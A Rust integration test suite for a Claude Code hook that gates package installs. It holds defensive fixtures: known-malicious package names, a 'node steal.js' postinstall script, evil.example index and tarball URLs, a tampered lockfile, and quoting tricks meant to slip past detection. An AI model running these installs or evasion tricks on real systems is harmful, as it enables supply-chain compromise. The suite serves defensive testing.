//! The dependency gate in the Claude Code hook (issue #7), through the real
//! binary: a Bash command that installs a known-malicious or hallucinated
//! package is denied, a typosquat, a too-new package and one with install
//! scripts are asked about, an unreachable registry gets the policy's
//! answer, and ordinary installs and commands pass. The registry is a mock
//! on 127.0.0.1 named in the user's palisade.toml.

#![allow(clippy::expect_used, clippy::unwrap_used)]

use serde_json::{json, Value};
use std::collections::HashMap;
use std::io::{BufRead, BufReader, Write};
use std::process::{Command, Stdio};

mod common;
use common::{env, Env};

/// A registry that answers `routes` (path → JSON body) and 404 otherwise.
fn mock(routes: HashMap<String, String>) -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut first = String::new();
            let _ = reader.read_line(&mut first);
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            let path = first.split_whitespace().nth(1).unwrap_or("").to_string();
            let (status, body) = match routes.get(&path) {
                Some(b) => ("200 OK", b.clone()),
                None => ("404 Not Found", "{\"error\":\"Not found\"}".to_string()),
            };
            let mut s = stream;
            let _ = write!(
                s,
                "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    format!("http://127.0.0.1:{port}")
}

/// An npm packument with one version published `days` ago.
fn npm_doc(name: &str, days: u64, scripts: Value) -> String {
    let t = std::time::SystemTime::now() - std::time::Duration::from_secs(days * 86_400);
    let secs = t.duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    // RFC 3339 via `date`, which every test machine has.
    let iso = String::from_utf8(
        Command::new("date")
            .args(["-u", "-d", &format!("@{secs}"), "+%Y-%m-%dT%H:%M:%S.000Z"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap()
    .trim()
    .to_string();
    json!({
        "name": name,
        "dist-tags": {"latest": "1.0.0"},
        "versions": {"1.0.0": {"name": name, "version": "1.0.0", "scripts": scripts}},
        "time": {"created": iso, "modified": iso, "1.0.0": iso},
    })
    .to_string()
}

fn user_toml(e: &Env, text: &str) {
    let dir = e.home.join(".config/palisade");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("palisade.toml"), text).unwrap();
}

fn hook(e: &Env, command: &str) -> Value {
    hook_with(
        e,
        "Bash",
        json!({"command": command, "description": "d"}),
        &[],
    )
}

/// Runs `palisade hook claude-code` on a PreToolUse event for `tool` with
/// `input` in `e`'s project, with `env` added to an isolated environment.
fn hook_with(e: &Env, tool: &str, input: Value, env: &[(&str, &std::path::Path)]) -> Value {
    let event = json!({"session_id": "s1", "transcript_path": "/dev/null", "cwd": e.proj,
        "permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": tool,
        "tool_input": input, "tool_use_id": "toolu_1"});
    let mut child = Command::new(env!("CARGO_BIN_EXE_palisade"))
        .args(["hook", "claude-code", "--managed-dir"])
        .arg(&e.managed)
        .env_clear()
        .env("HOME", &e.home)
        .env("XDG_CACHE_HOME", e.home.join(".cache"))
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .envs(env.iter().copied())
        .current_dir(&e.proj)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(event.to_string().as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    if stdout.trim().is_empty() {
        Value::Null
    } else {
        serde_json::from_str(&stdout).unwrap()
    }
}

fn verdict(v: &Value) -> (Option<String>, String) {
    let h = &v["hookSpecificOutput"];
    (
        h["permissionDecision"].as_str().map(str::to_string),
        h["permissionDecisionReason"]
            .as_str()
            .unwrap_or("")
            .to_string(),
    )
}

#[test]
fn installs_are_checked_against_the_data_and_the_registry() {
    let e = env();
    let mut routes = HashMap::new();
    routes.insert(
        "/npm/left-pad".to_string(),
        npm_doc("left-pad", 900, json!({"test": "tape"})),
    );
    routes.insert(
        "/npm/fresh-helper".to_string(),
        npm_doc("fresh-helper", 1, json!({})),
    );
    routes.insert(
        "/npm/native-thing".to_string(),
        npm_doc("native-thing", 400, json!({"postinstall": "node steal.js"})),
    );
    let base = mock(routes);
    user_toml(
        &e,
        &format!("[supply]\nmin_age = \"7d\"\n\n[supply.registries]\nnpm = \"{base}/npm\"\npypi = \"{base}/pypi\"\n"),
    );
    // Known malicious (embedded OpenSSF data): denied, whatever the registry.
    let (d, why) = verdict(&hook(&e, "pip install aaiohttp"));
    assert_eq!(d, Some("deny".to_string()), "{why}");
    assert!(
        why.contains("MAL-2023-1574") && why.contains("supply.malicious"),
        "{why}"
    );
    // Hidden behind other commands, too.
    let (d, _) = verdict(&hook(&e, "cd /tmp && bash -c 'pip3 install aaiohttp==1.0'"));
    assert_eq!(d, Some("deny".to_string()));
    // Quoting inside the program name does not hide it.
    for cmd in [
        r#""p"ip install aaiohttp"#,
        r"p\ip install aaiohttp",
        "'pip' install aaiohttp",
    ] {
        assert_eq!(verdict(&hook(&e, cmd)).0, Some("deny".to_string()), "{cmd}");
    }
    // Hallucinated: the registry has no such package; the real one is named.
    let (d, why) = verdict(&hook(&e, "npm install expresss"));
    assert_eq!(d, Some("deny".to_string()), "{why}");
    assert!(why.contains("did you mean `express`"), "{why}");
    let (d, why) = verdict(&hook(&e, "npm i fresh-helper"));
    assert_eq!(d, Some("ask".to_string()), "{why}");
    assert!(why.contains("supply.too-new"), "{why}");
    let (d, why) = verdict(&hook(&e, "npm i native-thing"));
    assert_eq!(d, Some("ask".to_string()), "{why}");
    assert!(why.contains("node steal.js"), "{why}");
    // An old, ordinary package and ordinary commands pass untouched.
    assert_eq!(hook(&e, "npm install left-pad"), Value::Null);
    assert_eq!(hook(&e, "echo npm install expresss"), Value::Null);
    assert_eq!(hook(&e, "git status"), Value::Null);
}

#[test]
fn a_registry_that_cannot_be_reached_gets_the_policy_answer() {
    let e = env();
    // Nothing listens on port 9 of 127.0.0.1.
    user_toml(
        &e,
        "[supply]\n\n[supply.registries]\nnpm = \"http://127.0.0.1:9/npm\"\n",
    );
    let (d, why) = verdict(&hook(&e, "npm i left-pad"));
    assert_eq!(d, Some("ask".to_string()), "{why}");
    assert!(why.contains("supply.registry-down"), "{why}");
    user_toml(
        &e,
        "[supply]\nregistry_down = \"deny\"\n\n[supply.registries]\nnpm = \"http://127.0.0.1:9/npm\"\n",
    );
    assert_eq!(
        verdict(&hook(&e, "npm i left-pad")).0,
        Some("deny".to_string())
    );
    // Switched off by the user: no registry is asked, the data still applies.
    user_toml(&e, "[supply]\nuse_registry = false\n");
    assert_eq!(hook(&e, "npm i left-pad"), Value::Null);
    assert_eq!(
        verdict(&hook(&e, "pip install aaiohttp")).0,
        Some("deny".to_string())
    );
}

#[test]
fn a_project_cannot_loosen_the_gate() {
    let e = env();
    user_toml(&e, "[supply]\nuse_registry = false\n");
    std::fs::write(
        e.proj.join("palisade.toml"),
        "[supply]\nenabled = false\ntrusted_indexes = [\"https://evil.example/simple\"]\n",
    )
    .unwrap();
    assert_eq!(
        verdict(&hook(&e, "pip install aaiohttp")).0,
        Some("deny".to_string())
    );
    let (d, why) = verdict(&hook(
        &e,
        "pip install --index-url https://evil.example/simple requests",
    ));
    assert_eq!(d, Some("ask".to_string()), "{why}");
}

/// Writes and edits of manifests and lockfiles are diffed against the file
/// on disk, and only what they add or change is checked: a malicious
/// package added to requirements.txt is denied, an entry that keeps its
/// version but points at another tarball (lockfile injection) is asked
/// about, a manifest that does not parse is asked about, and an edit that
/// leaves the dependencies alone passes.
#[test]
fn manifest_and_lockfile_changes_are_checked_by_their_diff() {
    let e = env();
    user_toml(&e, "[supply]\nuse_registry = false\n");
    let req = e.proj.join("requirements.txt");
    std::fs::write(&req, "requests==2.32.3\n# pinned\n").unwrap();
    let (d, why) = verdict(&hook_with(
        &e,
        "Edit",
        json!({"file_path": req, "old_string": "# pinned\n", "new_string": "aaiohttp\n# pinned\n"}),
        &[],
    ));
    assert_eq!(d, Some("deny".to_string()), "{why}");
    assert!(why.contains("supply.malicious"), "{why}");
    // Comment-only edits, and writes keeping the same dependencies, pass.
    assert_eq!(
        hook_with(
            &e,
            "Edit",
            json!({"file_path": req, "old_string": "# pinned", "new_string": "# pinned, see docs"}),
            &[]
        ),
        Value::Null
    );
    let lock = e.proj.join("package-lock.json");
    let lockfile = |resolved: &str| {
        json!({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": {
            "": {"name": "app", "version": "1.0.0", "dependencies": {"left-pad": "^1.3.0"}},
            "node_modules/left-pad": {"version": "1.3.0", "resolved": resolved,
                "integrity": "sha512-AAAA"}
        }})
        .to_string()
    };
    std::fs::write(
        &lock,
        lockfile("https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"),
    )
    .unwrap();
    let (d, why) = verdict(&hook_with(
        &e,
        "Write",
        json!({"file_path": lock, "content": lockfile("https://evil.example/left-pad-1.3.0.tgz")}),
        &[],
    ));
    assert_eq!(d, Some("ask".to_string()), "{why}");
    // A tarball outside the registry reads as a new source.
    assert!(
        why.contains("supply.source") && why.contains("https://evil.example/left-pad-1.3.0.tgz"),
        "{why}"
    );
    // The same tarball URL with another integrity hash: lockfile injection.
    let tampered = lockfile("https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz")
        .replace("sha512-AAAA", "sha512-BBBB");
    let (d, why) = verdict(&hook_with(
        &e,
        "Write",
        json!({"file_path": lock, "content": tampered}),
        &[],
    ));
    assert_eq!(d, Some("ask".to_string()), "{why}");
    assert!(why.contains("supply.lockfile-integrity"), "{why}");
    let (d, why) = verdict(&hook_with(
        &e,
        "Write",
        json!({"file_path": e.proj.join("pyproject.toml"), "content": "[project\nname = 'x'\n"}),
        &[],
    ));
    assert_eq!(d, Some("ask".to_string()), "{why}");
    assert!(why.contains("supply.manifest-invalid"), "{why}");
}

/// `palisade db update` imports an OSV export, and the hook then knows its
/// advisories: a vulnerable version is asked about with the advisory, its
/// severity and the fixed version; a fixed version passes.
#[test]
fn imported_advisories_reach_the_hook() {
    let e = env();
    user_toml(&e, "[supply]\nuse_registry = false\n");
    let data = e.home.join(".local/share");
    let fixtures = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../palisade-supply/tests/fixtures/osv"
    );
    let o = Command::new(env!("CARGO_BIN_EXE_palisade"))
        .args(["db", "update", "--from", fixtures])
        .env("XDG_DATA_HOME", &data)
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    assert!(String::from_utf8_lossy(&o.stdout).contains("vulnerability advisories"));
    let ask = |cmd: &str| {
        hook_with(
            &e,
            "Bash",
            json!({"command": cmd}),
            &[("XDG_DATA_HOME", data.as_path())],
        )
    };
    let (d, why) = verdict(&ask("npm install fixture-lib@1.4.1"));
    assert_eq!(d, Some("ask".to_string()), "{why}");
    assert!(
        why.contains("GHSA-fixt-ure0-0001")
            && why.contains("HIGH")
            && why.contains("fixed in 1.4.2"),
        "{why}"
    );
    assert_eq!(ask("npm install fixture-lib@1.4.2"), Value::Null);
}
